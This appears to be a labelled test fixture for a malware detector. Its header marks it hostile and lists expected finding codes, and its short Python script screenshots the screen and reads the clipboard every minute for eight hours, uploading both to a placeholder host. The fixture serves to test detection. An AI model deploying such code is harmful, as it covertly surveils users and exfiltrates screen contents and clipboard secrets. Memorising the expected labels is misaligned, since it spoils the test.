# label: hostile
# expect: V003 V301
# note: Takes pictures of the screen and the clipboard every minute; needs modules that are absent.
import io
import time

import pyautogui
import pyperclip
import requests

for minute in range(60 * 8):
    shot = io.BytesIO()
    pyautogui.screenshot().save(shot, "PNG")
    requests.post(
        "https://screens.example.invalid/up",
        files={"s": shot.getvalue()},
        data={"clip": pyperclip.paste()},
    )
    time.sleep(60)
